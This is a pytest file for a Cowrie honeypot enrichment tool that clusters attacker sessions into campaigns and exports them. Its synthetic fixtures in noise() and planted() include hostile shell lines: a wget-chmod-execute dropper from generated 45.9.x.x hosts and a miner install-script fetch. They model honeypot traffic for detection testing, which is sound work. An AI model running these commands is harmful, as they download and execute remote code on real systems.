"""Campaigns from logs: those that were planted are found exactly, and the same in any order of the days."""

from __future__ import annotations

import json
import random
import shutil
import tempfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select, text

from cowrie_enrich_dagster.campaigns import rules
from cowrie_enrich_dagster.enrichment import Enricher
from cowrie_enrich_dagster.enrichment.campaigns import find_campaigns, forget_campaigns_of
from cowrie_enrich_dagster.enrichment.ingest import ingest_days
from cowrie_enrich_dagster.enrichment.session_ips import summarise_addresses
from cowrie_enrich_dagster.export import ExportFormat, export_days
from cowrie_enrich_dagster.storage.engine import Database
from cowrie_enrich_dagster.storage.tables import Campaign, table_of
from cowrie_enrich_dagster.vocabulary import Days
from tests.attacks import Attack, write_attacks
from tests.integration.enrichment.conftest import SAMPLE_DAYS
from tests.logs import START, routable_ips

Open = Callable[..., Enricher]
EMPTY = sha256(b"").hexdigest()
SPAN = Days.parse("2025-11-01..2025-11-04")
FOUR_DAYS = [START + timedelta(days=n) for n in range(4)]
KEY = "SHA256:" + "k" * 43


def file(name: str) -> str:
    """The hash of a file that is called so."""
    return sha256(f"malware {name}".encode()).hexdigest()


def members(database: Database) -> dict[str, set[str]]:
    """The ids of sessions by campaign."""
    found: dict[str, set[str]] = defaultdict(set)
    with database.read() as connection:
        for campaign, session in connection.execute(
            text("SELECT campaign_id, session_id FROM session_campaigns")
        ):
            assert session not in found[campaign]
            found[campaign].add(session)
    return dict(found)


def campaigns(database: Database) -> list[dict[str, Any]]:
    """The campaigns that there are now, by id."""
    table = table_of(Campaign)
    query = select(table).where(table.c.merged_into.is_(None)).order_by("campaign_id")
    with database.read() as connection:
        return [dict(row) for row in connection.execute(query).mappings()]


def merged(database: Database) -> dict[str, str]:
    """Where ids that were given out lead to now."""
    query = text("SELECT campaign_id, merged_into FROM campaigns WHERE merged_into IS NOT NULL")
    with database.read() as connection:
        return {row[0]: row[1] for row in connection.execute(query)}


def noise(rng: random.Random, number: int) -> Iterator[Attack]:
    """What every honeypot sees: the same look around, the same tools, empty files, everyone's hosts."""
    sources = routable_ips(200, offset=5_000)
    looks = [
        ("uname -a",),
        ("enable", "system", "shell", "sh", "/bin/busybox {}"),
        ("cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{{print $2 ,$3, $4}}'", "w"),
        ("wget https://raw.githubusercontent.com/xmrig/{}/install.sh",),
        ("curl -s http://ifconfig.me/ip",),
        ("echo {} > /tmp/.x; cat /tmp/.x; rm /tmp/.x",),
        (),
    ]
    for n in range(number):
        word = "".join(rng.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ", k=6))
        lines = tuple(line.format(word) for line in rng.choice(looks))
        start = START + timedelta(seconds=rng.random() * 3 * 86_399)
        yield Attack(f"noise{n:07}", rng.choice(sources), start, lines, rng.choice([(), (EMPTY,)]))


def planted(rng: random.Random) -> Iterator[Attack]:
    """A shared key, a shared file, and a script with other addresses, numbers and names every time."""
    sources = routable_ips(60)
    rng.shuffle(sources)

    def at() -> Any:
        return START + timedelta(seconds=rng.random() * 3 * 86_399)

    for n in range(17):
        yield Attack(f"key{n:04}", sources.pop(), at(), ("uname -a",), key=KEY)
    for n in range(19):
        yield Attack(f"file{n:04}", sources.pop(), at(), ("w",), (EMPTY, file("a worm")))
    for n in range(23):
        name = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=10))
        host = f"45.9.{rng.randrange(256)}.{rng.randrange(256)}"
        script = (
            f"cd /tmp || cd /var/run; wget http://{host}:{rng.randrange(9999)}/{name}.sh -O .{name}",
            f"chmod 777 .{name}; ./.{name} {rng.randrange(10**6)}; rm -rf .{name}",
        )
        yield Attack(f"script{n:04}", sources.pop(), at(), rng.choice([(), ("uname -a",)]) + script)


def test_three_planted_campaigns_are_found_exactly(database: Database, tmp_path: Path) -> None:
    """Among noise that has tools, empty files and well-known hosts in common; and nothing else is joined."""
    rng = random.Random(15)
    logs = write_attacks(tmp_path / "logs", [*noise(rng, 600), *planted(rng)])
    ingest_days(database, logs, SAMPLE_DAYS)
    found = find_campaigns(database)
    assert found.days == list(SAMPLE_DAYS)
    together = {frozenset(sessions) for sessions in members(database).values()}
    assert together == {
        frozenset(f"{name}{n:04}" for n in range(number))
        for name, number in (("key", 17), ("file", 19), ("script", 23))
    }
    told = {campaign["sessions"]: campaign for campaign in campaigns(database)}
    assert {number: campaign["sources"] for number, campaign in told.items()} == {17: 17, 19: 19, 23: 23}
    assert told[17]["artefacts"] == [{"kind": "key", "value": KEY, "sessions": 17}]
    assert told[19]["artefacts"] == [{"kind": "file", "value": file("a worm"), "sessions": 19}]
    script = told[23]["artefacts"][0]["value"]
    assert script.startswith("cd /tmp || cd /var/run; wget <url> -O .<x>; chmod <x> .<x>")
    assert [told[number]["label"] for number in (17, 19)] == [f"key: {KEY}", f"file: {file('a worm')[:12]}…"]
    assert told[23]["label"].startswith("script: cd /tmp || cd /var/run; wget <url>")
    assert all(campaign["first_seen"] <= campaign["last_seen"] for campaign in told.values())
    assert find_campaigns(database).days == []


def test_campaigns_that_meet_grow_together_and_the_older_id_stays(database: Database, tmp_path: Path) -> None:
    """The younger one's id leads to where its sessions are; figures are of both."""
    attacks = [
        Attack("a1", "11.0.0.1", START, files=(file("a"),)),
        Attack("a2", "11.0.0.2", START + timedelta(hours=1), files=(file("a"),), sensor="other"),
        Attack("b1", "11.0.0.3", START + timedelta(hours=2), files=(file("b"),)),
        Attack("b2", "11.0.0.1", START + timedelta(hours=3), files=(file("b"),)),
        Attack("ab", "11.0.0.4", START + timedelta(days=1), files=(file("a"), file("b"))),
    ]
    logs = write_attacks(tmp_path / "logs", attacks)
    ingest_days(database, logs, Days.parse("2025-11-01"))
    find_campaigns(database)
    a, b = (
        campaign["campaign_id"] for campaign in sorted(campaigns(database), key=lambda c: c["first_seen"])
    )
    assert members(database) == {a: {"a1", "a2"}, b: {"b1", "b2"}}
    ingest_days(database, logs, Days.parse("2025-11-02"))
    find_campaigns(database)
    assert members(database) == {a: {"a1", "a2", "b1", "b2", "ab"}}
    assert merged(database) == {b: a}
    (grown,) = campaigns(database)
    assert (grown["sessions"], grown["sources"], grown["sensors"]) == (5, 4, 2)
    assert (grown["first_seen"], grown["last_seen"]) == (START, START + timedelta(days=1))
    write_attacks(logs, [Attack("ab", "11.0.0.4", START + timedelta(days=1), files=(file("c"),))])
    ingest_days(database, logs, Days.parse("2025-11-02"))
    find_campaigns(database)
    assert members(database) == {a: {"a1", "a2"}, b: {"b1", "b2"}}
    assert merged(database) == {}


def test_what_most_sources_have_joins_nobody(database: Database, tmp_path: Path) -> None:
    """A file of more than half of at least twenty sources is everybody's, until it no longer is."""
    common, start = file("everybody's"), START
    many = [Attack(f"m{n:02}", f"11.0.0.{n}", start, files=(common,)) for n in range(12)]
    others = [Attack(f"o{n:02}", f"11.0.1.{n}", start) for n in range(8)]
    pair = [Attack(f"p{n}", f"11.0.0.{n}", start, files=(common, file("theirs"))) for n in range(2)]
    logs = write_attacks(tmp_path / "logs", [*many, *others, *pair])
    seen(database, logs, Days.parse("2025-11-01"))
    assert list(members(database).values()) == [{"p0", "p1"}]
    (only,) = campaigns(database)
    assert [artefact["value"] for artefact in only["artefacts"]] == [file("theirs")]
    later = [Attack(f"l{n:02}", f"11.0.2.{n}", start + timedelta(days=1)) for n in range(9)]
    write_attacks(logs, later)
    seen(database, logs, Days.parse("2025-11-02"))
    assert list(members(database).values()) == [{attack.session for attack in (*many, *pair)}]
    assert merged(database) == {only["campaign_id"]: next(iter(members(database)))}


def seen(database: Database, logs: Path, days: Days) -> None:
    """Read days of logs, and all that campaigns need."""
    ingest_days(database, logs, days)
    summarise_addresses(database, days, (), ())
    find_campaigns(database)


@pytest.mark.sampled
def test_the_run_and_the_drain_keep_campaigns(open_enricher: Open) -> None:
    """Without Dagster: `run` finds them; a drain those that a killed run, or an older version, left."""
    enricher = open_enricher()
    first = campaigns(enricher.database)
    assert len(first) == 14
    assert sum(campaign["sessions"] for campaign in first) == 139
    with enricher.database.write() as connection:
        for table in ("campaigns", "session_artefacts", "artefacts_in_sets", "artefact_sets", "artefacts"):
            connection.execute(text(f"DELETE FROM {table}"))
    enricher.ingest(SAMPLE_DAYS)
    assert members(enricher.database) == {}
    enricher.drain()
    assert campaigns(enricher.database) == first


@pytest.mark.sampled
def test_exports_tell_the_campaign(open_enricher: Open, tmp_path: Path) -> None:
    """Its id and label with each of its sessions; in STIX what took part in it indicates it."""
    enricher = open_enricher()
    told = {campaign["campaign_id"]: campaign for campaign in campaigns(enricher.database)}
    largest = max(told.values(), key=lambda campaign: campaign["sessions"])
    path = tmp_path / "export"
    export_days(enricher.database, SAMPLE_DAYS, ExportFormat.JSON, path)
    documents = [json.loads(line) for line in path.read_text().splitlines()]
    exported = [d["cowrie"]["campaign"] for d in documents if "campaign" in d["cowrie"]]
    assert (len(documents), len(exported)) == (1400, 139)
    assert exported.count({"id": largest["campaign_id"], "label": largest["label"]}) == largest["sessions"]
    export_days(enricher.database, SAMPLE_DAYS, ExportFormat.STIX, path)
    objects = {thing["id"]: thing for thing in json.loads(path.read_text())["objects"]}
    named = [thing for thing in objects.values() if thing["type"] == "campaign"]
    assert sorted(thing["name"] for thing in named) == sorted(c["label"] for c in told.values())
    (its_id,) = (thing["id"] for thing in named if thing["name"] == largest["label"])
    indicators = [thing["source_ref"] for thing in objects.values() if thing.get("target_ref") == its_id]
    assert {objects[one]["type"] for one in indicators} == {"indicator"}
    assert len(indicators) == largest["sources"]


@st.composite
def attacks_of_four_days(draw: st.DrawFn, prefix: str) -> list[Attack]:
    """A few sessions with artefacts of a small stock; on each of the days one that has none."""
    stock = st.lists(st.sampled_from([file(str(n)) for n in range(9)]), max_size=3, unique=True)
    quiet = [Attack(f"q{n}", "11.0.0.9", day) for n, day in enumerate(FOUR_DAYS)]
    return quiet + [
        Attack(
            f"{prefix}{n:02}",
            f"11.0.0.{draw(st.integers(1, 5))}",
            draw(st.sampled_from(FOUR_DAYS)) + timedelta(minutes=draw(st.integers(0, 3))),
            files=tuple(draw(stock)),
        )
        for n in range(draw(st.integers(2, 14)))
    ]


orders = st.permutations([day.date() for day in FOUR_DAYS])


@settings(max_examples=8, deadline=None)
@given(
    attacks_of_four_days("these"),
    attacks_of_four_days("other"),
    orders,
    orders,
    st.sampled_from([rules.ENOUGH_SOURCES, 2]),
)
def test_campaigns_depend_on_the_sessions_alone(
    sqlite_template: Path,
    attacks: list[Attack],
    others: list[Attack],
    order: list[date],
    other_order: list[date],
    enough: int,
) -> None:
    """Days one by one in any order, or all at once, or after other sessions stood there: the same rows.

    And no id that was given out is lost, unless what made it is gone, or came to be everybody's.
    """

    def outcome(name: str, *steps: tuple[list[Attack], list[Days]]) -> tuple[Any, set[str], dict[str, str]]:
        path = shutil.copy(sqlite_template, Path(folder) / f"{name}.db")
        database, given_out = Database(f"sqlite:///{path}"), set[str]()
        for logged, reads in steps:
            logs = write_attacks(Path(folder) / name, logged)
            for days in reads:
                seen(database, logs, days)
                given_out |= set(members(database))
        found = members(database), campaigns(database)
        leads_to = merged(database)
        database.close()
        assert set(leads_to.values()) <= set(found[0])
        assert set(leads_to) <= given_out - set(found[0])
        return found, given_out - set(found[0]), leads_to

    one_by_one = [Days(day, day) for day in order]
    with (
        pytest.MonkeyPatch.context() as patch,
        tempfile.TemporaryDirectory(dir=sqlite_template.parent) as folder,
    ):
        patch.setattr(rules, "ENOUGH_SOURCES", enough)
        expected, _, _ = outcome("at_once", (attacks, [SPAN]))
        found, gone, leads_to = outcome("in_order", (attacks, one_by_one))
        assert found == expected
        assert enough == 2 or gone == set(leads_to)
        others_first = (others, [Days(day, day) for day in other_order])
        assert outcome("after_others", others_first, (attacks, one_by_one))[0] == expected


def test_forgotten_days_leave_ids_as_they_were(database: Database, tmp_path: Path) -> None:
    """A campaign that goes on keeps its id and since when it is; one that is over goes with its days."""
    attacks = [
        Attack("old1", "11.0.0.1", START, files=(file("old"),)),
        Attack("old2", "11.0.0.2", START, files=(file("old"), file("new"))),
        Attack("gone1", "11.0.0.3", START, files=(file("gone"),)),
        Attack("gone2", "11.0.0.4", START, files=(file("gone"),)),
        Attack("new1", "11.0.0.5", START + timedelta(days=1), files=(file("new"),)),
    ]
    logs = write_attacks(tmp_path / "logs", attacks)
    ingest_days(database, logs, SPAN)
    find_campaigns(database)
    by_session = {session: name for name, sessions in members(database).items() for session in sessions}
    with database.write() as connection:
        connection.execute(text("DELETE FROM sessions WHERE day = '2025-11-01'"))
    forget_campaigns_of(database, date(2025, 11, 1))
    assert members(database) == {by_session["new1"]: {"new1"}}
    assert [campaign["campaign_id"] for campaign in campaigns(database)] == [by_session["old1"]]
    write_attacks(logs, [Attack("new2", "11.0.0.6", START + timedelta(days=2), files=(file("new"),))])
    ingest_days(database, logs, Days.parse("2025-11-03"))
    find_campaigns(database)
    (left,) = campaigns(database)
    assert members(database) == {by_session["old1"]: {"new1", "new2"}}
    assert (left["first_seen"], left["sessions"]) == (START, 2)
    forget_campaigns_of(database, date(2025, 11, 2))
    forget_campaigns_of(database, date(2025, 11, 3))
    assert (members(database), campaigns(database), merged(database)) == ({}, [], {})
    with database.read() as connection:
        for table in ("session_artefacts", "artefact_sets", "artefacts_in_sets", "artefacts"):
            assert connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one() == 0
